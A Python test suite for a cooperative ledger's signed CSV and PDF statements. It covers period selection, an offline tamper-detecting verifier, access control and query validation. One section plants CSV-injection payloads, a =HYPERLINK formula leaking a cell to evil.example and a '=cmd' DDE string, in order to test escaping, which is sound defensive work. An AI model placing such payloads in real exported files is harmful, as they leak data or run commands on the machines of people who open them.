"""Ledger statements: an auditor downloads one and checks it offline with tools/verify_statement.py.

The story: the society records entries on the last second of March, through
April and on the first second of May. An auditor asks for April's statement
and gets exactly April's entries, signed, and the offline verifier (a
separate program, run as a subprocess) says OK; one byte changed, a row
dropped or an amount altered, and it names the entry.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import json
import re
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
import time_machine
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

from ledger import statements
from ledger.canonical import statement_signed_bytes
from ledger.models import EntryKind, LedgerCheckpoint
from ledger.services import Posting, entry_post, entry_reverse
from ledger.signing import public_key_info

pytestmark = pytest.mark.django_db

VERIFIER = Path(__file__).resolve().parents[2] / "tools" / "verify_statement.py"
CSV_URL = "/api/v1/ledger/statement.csv"
PDF_URL = "/api/v1/ledger/statement.pdf"
TRICKY = 'Refund, "as agreed"\nsecond line; café £5'


@pytest.fixture(autouse=True)
def key(settings):
    settings.LEDGER_SIGNING_KEY = "07" * 32


def at(*when):
    return time_machine.travel(dt.datetime(*when, tzinfo=dt.UTC), tick=False)


@pytest.fixture
def books(society, pay_in):
    """#1 on 31 March, #2-#5 in April (#5 at its last microsecond), #6-#7 on 1 May."""
    with at(2025, 3, 31, 23, 59, 59, 999_999):
        pay_in(society, "bank:1", 10_000, description="March money")
    with at(2025, 4, 1):
        pay_in(society, "bank:2", 25_000)
    with at(2025, 4, 15, 12):
        entry_post(
            issuer=society,
            kind=EntryKind.ALLOTMENT,
            value_date=dt.date(2025, 4, 15),
            description="Allotment of holding 7",
            idempotency_key="allot:7",
            postings=[Posting("subscriptions_held", 25_000), Posting("bond_principal:7", -25_000)],
        )
    with at(2025, 4, 20):
        bounced = pay_in(society, "bank:3", 1_050, description=TRICKY)
    with at(2025, 4, 30, 23, 59, 59, 999_999):
        entry_reverse(
            entry=bounced, value_date=dt.date(2025, 4, 30), description="Bounced", idempotency_key="bank:3:x"
        )
    with at(2025, 5, 1):
        # Recorded in May, its value date backdated into April: May's statement has it, not April's.
        entry_post(
            issuer=society,
            kind=EntryKind.SUBSCRIPTION_PAYMENT,
            value_date=dt.date(2025, 4, 29),
            description="Late bank line",
            idempotency_key="bank:4",
            postings=[Posting("cash_at_bank", 500), Posting("subscriptions_held", -500)],
        )
        pay_in(society, "bank:5", 700)
    return society


@pytest.fixture
def download(api_client_for):
    def download(user, issuer, query="", url=CSV_URL, **headers):
        return api_client_for(user).get(f"{url}?issuer={issuer.pk}{query}", **headers)

    return download


def csv_text(response) -> str:
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content).decode("utf-8")


def parse(text: str) -> tuple[dict[str, str], list[dict[str, str]]]:
    preamble, _, body = text.partition("\r\nsequence,")
    facts = dict(
        line[2:].split(": ", 1) if ": " in line else (line[2:-1], "") for line in preamble.split("\r\n")
    )
    return facts, list(csv.DictReader(io.StringIO("sequence," + body, newline="")))


def verify(tmp_path, text: str, *args: str) -> subprocess.CompletedProcess:
    path = tmp_path / "statement.csv"
    path.write_bytes(text.encode("utf-8"))
    return subprocess.run(
        [sys.executable, "-I", str(VERIFIER), str(path), *args], capture_output=True, text=True, timeout=60
    )


@pytest.fixture
def published_key(api_client_for):
    def published_key() -> str:
        return api_client_for(None).get("/api/v1/ledger/public-key/").json()["public_key_hex"]

    return published_key


def test_an_auditors_csv_holds_every_entry_of_the_period_and_a_valid_signature(
    books, auditor, download, published_key
):
    response = download(auditor, books, "&from=2025-04-01&to=2025-04-30")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="ledger-{books.pk}-2025-04-01-2025-04-30.csv"'
    )
    facts, rows = parse(csv_text(response))

    assert sorted({int(row["sequence"]) for row in rows}) == [2, 3, 4, 5]
    assert len(rows) == 8  # two postings each
    assert (facts["from_sequence"], facts["to_sequence"]) == ("2", "5")
    assert facts["issuer_name"] == "Sheffield Citylife Society"
    first = rows[0]
    assert first["recorded_at"] == "2025-04-01T00:00:00.000000Z"
    assert (first["account"], first["amount_pence"], first["debit"], first["credit"]) == (
        "cash_at_bank",
        "25000",
        "250.00",
        "0.00",
    )
    assert rows[1]["amount_pence"] == "-25000" and rows[1]["credit"] == "250.00"
    assert facts["prev_hash"] == first["prev_hash"] and facts["last_hash"] == rows[-1]["hash"]
    assert rows[-1]["reverses"] == "4" and rows[-1]["kind"] == "reversal"

    # The signature holds under the published key, over the documented message.
    assert facts["public_key"] == published_key() and facts["key_id"] == public_key_info().key_id
    message = statement_signed_bytes(
        issuer_id=books.pk,
        from_sequence=2,
        to_sequence=5,
        prev_hash=facts["prev_hash"],
        last_hash=facts["last_hash"],
        date_from="2025-04-01",
        date_to="2025-04-30",
        generated_at=facts["generated_at"],
    )
    assert json.loads(message)["type"] == "ledger_statement"
    key = Ed25519PublicKey.from_public_bytes(bytes.fromhex(facts["public_key"]))
    key.verify(bytes.fromhex(facts["signature"]), message)  # raises if it does not hold

    # The cut-off signed the chain head, and the file carries that checkpoint.
    checkpoint = LedgerCheckpoint.objects.get(issuer=books)
    assert facts["checkpoint_sequence"] == "7" and facts["checkpoint_hash"] == checkpoint.hash
    assert facts["checkpoint_signature"] == checkpoint.signature


def test_the_offline_verifier_says_ok(books, auditor, tmp_path, download, published_key):
    text = csv_text(download(auditor, books, "&from=2025-04-01&to=2025-04-30"))
    result = verify(tmp_path, text, "--public-key", published_key())
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.startswith("OK: issuer") and "#2 to #5 (4 entries, 8 postings)" in result.stdout
    assert result.stderr == ""

    # Without a key it checks against the file's own, and says why that proves little.
    result = verify(tmp_path, text)
    assert result.returncode == 0 and "warning" in result.stderr and "--public-key" in result.stderr


def _description_byte(text: str) -> str:
    return text.replace("Allotment of holding 7", "Allotment of holding 8")


def _description_byte_on_one_row(text: str) -> str:
    return text.replace("Allotment of holding 7", "Allotment of holding 8", 1)


def _row_removed(text: str) -> str:
    lines = text.split("\r\n")
    index = next(i for i, line in enumerate(lines) if line.startswith("3,") and "bond_principal:7" in line)
    return "\r\n".join(lines[:index] + lines[index + 1 :])


def _entry_removed(text: str) -> str:
    return "\r\n".join(line for line in text.split("\r\n") if not line.startswith("3,"))


def _amount_changed(text: str) -> str:
    # Both legs and the human columns, so that the entry still balances: only the hash can tell.
    return text.replace(",25000,250.00,0.00,", ",2500,25.00,0.00,", 1).replace(
        ",-25000,0.00,250.00,", ",-2500,0.00,25.00,", 1
    )


def _amount_column_only(text: str) -> str:
    return text.replace(",25000,250.00,0.00,", ",26000,250.00,0.00,", 1)


@pytest.mark.parametrize(
    ("change", "sequence", "reason"),
    [
        (_description_byte, 3, "hash does not match"),
        (_description_byte_on_one_row, 3, "rows disagree on description"),
        (_row_removed, 3, "fewer than two postings"),
        (_entry_removed, 3, "#3 is missing"),
        (_amount_changed, 2, "hash does not match"),
        (_amount_column_only, 2, "do not say amount_pence"),
    ],
)
def test_the_offline_verifier_names_the_entry_that_was_changed(
    books, auditor, tmp_path, change, sequence, reason, download, published_key
):
    text = csv_text(download(auditor, books, "&from=2025-04-01&to=2025-04-30"))
    changed = change(text)
    assert changed != text
    result = verify(tmp_path, changed, "--public-key", published_key())
    assert result.returncode == 1, result.stdout
    assert result.stdout.startswith(f"FAILED at #{sequence}:") and reason in result.stdout, result.stdout


def test_the_offline_verifier_refuses_another_key_and_a_changed_header(
    books, auditor, tmp_path, download, published_key
):
    text = csv_text(download(auditor, books, "&from=2025-04-01&to=2025-04-30"))
    result = verify(tmp_path, text, "--public-key", "ab" * 32)
    assert result.returncode == 1 and "key" in result.stdout

    facts, _ = parse(text)
    later = text.replace(f"# to_sequence: {facts['to_sequence']}", "# to_sequence: 4", 1)
    result = verify(tmp_path, later, "--public-key", published_key())
    assert result.returncode == 1 and "signature does not verify" in result.stdout

    moved = text.replace(f"# checkpoint_hash: {facts['checkpoint_hash']}", f"# checkpoint_hash: {'0' * 64}")
    result = verify(tmp_path, moved, "--public-key", published_key())
    assert result.returncode == 1 and "checkpoint's signature" in result.stdout


def test_entries_recorded_outside_the_period_are_left_out(books, officer, download):
    def sequences(query):
        _, rows = parse(csv_text(download(officer, books, query)))
        return sorted({int(row["sequence"]) for row in rows})

    assert sequences("&from=2025-03-31&to=2025-03-31") == [1]
    assert sequences("&from=2025-04-30&to=2025-04-30") == [5]
    # By the day it was recorded, not its (backdated) value date.
    assert sequences("&from=2025-05-01&to=2025-05-01") == [6, 7]
    assert sequences("&to=2025-04-15") == [1, 2, 3]
    assert sequences("&from=2025-04-16") == [4, 5, 6, 7]
    assert sequences("") == [1, 2, 3, 4, 5, 6, 7]


def test_an_empty_period_still_gives_a_signed_statement(books, auditor, tmp_path, download, published_key):
    text = csv_text(download(auditor, books, "&from=2025-04-02&to=2025-04-14"))
    facts, rows = parse(text)
    assert rows == []
    # Nothing recorded: the statement pins the chain's position at the period's end (after #2).
    assert (facts["from_sequence"], facts["to_sequence"]) == ("3", "2")
    assert (
        facts["prev_hash"]
        == facts["last_hash"]
        == parse(csv_text(download(auditor, books, "&to=2025-04-01")))[0]["last_hash"]
    )
    result = verify(tmp_path, text, "--public-key", published_key())
    assert result.returncode == 0, result.stdout
    assert "(0 entries, 0 postings)" in result.stdout


def test_an_empty_ledger_gives_a_signed_statement_of_nothing(
    society, auditor, tmp_path, download, published_key
):
    text = csv_text(download(auditor, society))
    facts, rows = parse(text)
    assert rows == [] and (facts["from_sequence"], facts["to_sequence"]) == ("1", "0")
    assert facts["prev_hash"] == facts["last_hash"] == "0" * 64 and facts["checkpoint_sequence"] == ""
    assert verify(tmp_path, text, "--public-key", published_key()).returncode == 0


def test_a_description_with_a_comma_quote_and_newline_is_escaped_and_still_verifies(
    books, auditor, tmp_path, download, published_key
):
    text = csv_text(download(auditor, books, "&from=2025-04-20&to=2025-04-20"))
    assert '"Refund, ""as agreed""\nsecond line; café £5"' in text
    _, rows = parse(text)
    assert [row["description"] for row in rows] == [TRICKY, TRICKY]
    result = verify(tmp_path, text, "--public-key", published_key())
    assert result.returncode == 0, result.stdout


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Statement OK")'
# Text a spreadsheet would run as a formula, or (the apostrophe) that must survive the escaping.
FORMULAS = [HYPERLINK, "+44 114 000 0000", "-1.50 adjustment", "@SUM(1+1)", "\tTabbed", "'quoted'"]


@pytest.fixture
def formula_books(society, pay_in):
    society.name = 'Citylife, =cmd|" /C calc"!A0, "@x"'
    society.save()
    with at(2025, 6, 1):
        for number, text in enumerate(FORMULAS):
            pay_in(society, f"{'=' if number == 0 else '@'}key:{number}", 100 + number, description=text)
    return society


def test_a_description_a_spreadsheet_would_run_is_neutralised_and_still_verifies(
    formula_books, auditor, tmp_path, download, published_key
):
    """Issue 9, finding 10: `=HYPERLINK(...)` in a description reached a cell unescaped."""
    text = csv_text(download(auditor, formula_books))
    facts, rows = parse(text)
    assert facts["format_version"] == "2"

    # Every text cell a spreadsheet would run starts with the apostrophe; the numbers stay numbers.
    cells = list(csv.reader(io.StringIO(text.partition("\r\nsequence,")[2], newline="")))
    for row in cells[1:]:
        for column, cell in zip(statements.CSV_COLUMNS, row, strict=True):
            if column in statements.CSV_TEXT_COLUMNS:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    descriptions = [row["description"] for row in rows[::2]]
    assert descriptions == ["'" + formula for formula in FORMULAS]
    assert [row["idempotency_key"] for row in rows[::2]][:2] == ["'=key:0", "'@key:1"]
    assert rows[1]["amount_pence"] == "-100" and rows[1]["credit"] == "1.00"
    # The unsigned name line: each place a spreadsheet would start a cell is escaped too.
    assert facts["issuer_name"] == 'Citylife, \'=cmd|" /C calc"!A0, "\'@x"'

    result = verify(tmp_path, text, "--public-key", published_key())
    assert result.returncode == 0, result.stdout
    assert "(6 entries, 12 postings)" in result.stdout


def test_the_verifier_refuses_an_unescaped_formula_and_a_needless_apostrophe(
    formula_books, auditor, tmp_path, download, published_key
):
    text = csv_text(download(auditor, formula_books))

    # Someone took the apostrophe away: the hash would still match, so the verifier says why it fails.
    bare = text.replace(""""'=HYPERLINK""", '"=HYPERLINK')
    assert bare != text
    result = verify(tmp_path, bare, "--public-key", published_key())
    assert result.returncode == 1 and "would run as a formula" in result.stdout, result.stdout

    needless = text.replace(",'@key:1,", ",'key:1,", 1)
    assert needless != text
    result = verify(tmp_path, needless, "--public-key", published_key())
    assert result.returncode == 1 and "apostrophe in front that nothing needed" in result.stdout, (
        result.stdout
    )


def test_a_version_1_statement_still_verifies(books, auditor, tmp_path, download, published_key):
    """Statements made before the escaping: nothing in them starts with an apostrophe to remove."""
    text = csv_text(download(auditor, books, "&from=2025-04-01&to=2025-04-30"))
    version_1 = text.replace("# format_version: 2\r\n", "# format_version: 1\r\n", 1)
    assert version_1 != text

    result = verify(tmp_path, version_1, "--public-key", published_key())
    assert result.returncode == 0, result.stdout


def test_a_long_statement_is_read_and_sent_a_chunk_at_a_time(
    books, auditor, tmp_path, monkeypatch, download, published_key
):
    monkeypatch.setattr(statements, "_CHUNK", 2)
    monkeypatch.setattr(statements, "_ROWS_PER_WRITE", 3)
    response = download(auditor, books)
    assert response.streaming
    parts = list(response.streaming_content)
    assert len(parts) > 3
    text = b"".join(parts).decode("utf-8")
    assert len(parse(text)[1]) == 14
    result = verify(tmp_path, text, "--public-key", published_key())
    assert result.returncode == 0, result.stdout


def test_the_verifier_needs_nothing_of_the_service():
    tree = ast.parse(VERIFIER.read_text())
    imported = {
        alias.name.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    }
    imported |= {
        node.module.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module
    }
    assert imported - {"__future__"} <= set(sys.stdlib_module_names) | {"cryptography"}


def _pdf_text(pdf: bytes) -> bytes:
    """The PDF's streams, inflated: enough to find the title without a PDF library."""
    streams = []
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            streams.append(zlib.decompress(match.group(1)))
        except zlib.error:
            pass
    return b"".join(streams)


def test_the_pdf_is_a_pdf_naming_the_issuer(books, officer, download):
    response = download(officer, books, "&from=2025-04-01&to=2025-04-30", url=PDF_URL)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        f'attachment; filename="ledger-{books.pk}-2025-04-01-2025-04-30.pdf"'
    )
    assert response.content.startswith(b"%PDF-") and len(response.content) > 5_000
    assert b"Sheffield Citylife Society" in _pdf_text(response.content)


def test_an_empty_period_has_a_pdf_too(books, officer, download):
    response = download(officer, books, "&from=2025-04-02&to=2025-04-14", url=PDF_URL)
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")


def test_a_pdf_past_the_cap_is_refused_with_a_pointer_to_the_csv(books, officer, monkeypatch, download):
    monkeypatch.setattr(statements, "PDF_MAX_POSTINGS", 7)
    response = download(officer, books, "&from=2025-04-01&to=2025-04-30", url=PDF_URL)
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "statement_too_large" and "CSV" in body["detail"]
    assert (body["postings"], body["max_postings"]) == (8, 7)
    assert download(officer, books, "&from=2025-04-01&to=2025-04-15", url=PDF_URL).status_code == 200


@pytest.mark.parametrize("url", [CSV_URL, PDF_URL])
@pytest.mark.parametrize("persona", ["officer", "auditor", "staff"])
def test_officers_auditors_and_staff_may_download(books, url, persona, request, download):
    response = download(request.getfixturevalue(persona), books, "&from=2025-05-01", url=url)
    assert response.status_code == 200


@pytest.mark.parametrize("url", [CSV_URL, PDF_URL])
@pytest.mark.parametrize("persona", ["resident", "outsider"])
def test_residents_and_outsiders_are_refused(books, url, persona, request, download):
    response = download(request.getfixturevalue(persona), books, url=url)
    assert response.status_code == 403
    assert response.json()["code"] == "not_an_officer_or_auditor"


@pytest.mark.parametrize("url", [CSV_URL, PDF_URL])
def test_anonymous_callers_must_sign_in(books, url, download):
    response = download(None, books, url=url)
    assert response.status_code == 401 and response.json()["code"] == "not_authenticated"


@pytest.mark.parametrize("url", [CSV_URL, PDF_URL])
@pytest.mark.parametrize(
    ("query", "status", "field"),
    [
        ("", 400, "issuer"),
        ("?issuer=abc", 400, "issuer"),
        ("?issuer=999999", 404, None),
        ("?issuer={issuer}&from=2025-05-01&to=2025-04-01", 400, "to"),
        ("?issuer={issuer}&from=April", 400, "from"),
        ("?issuer={issuer}&from=2999-01-01", 400, "to"),  # `to` is today
    ],
)
def test_a_missing_unknown_or_bad_query(books, staff, url, query, status, field, api_client_for):
    response = api_client_for(staff).get(url + query.format(issuer=books.pk), HTTP_ACCEPT="text/csv")
    assert response.status_code == status
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    if field:
        assert body["code"] == "invalid_query" and field in body["fields"]
    else:
        assert body["code"] == "issuer_not_found"


def test_asking_for_csv_by_accept_header_gets_the_csv(books, auditor, download):
    response = download(auditor, books, HTTP_ACCEPT="text/csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"


def test_no_statement_of_a_chain_that_fails_verification(books, auditor, download, tamper):
    tamper("UPDATE investments_ledgerentry SET description = 'x' WHERE sequence = 2")
    response = download(auditor, books)
    assert response.status_code == 422 and response.json()["code"] == "ledger_invalid"
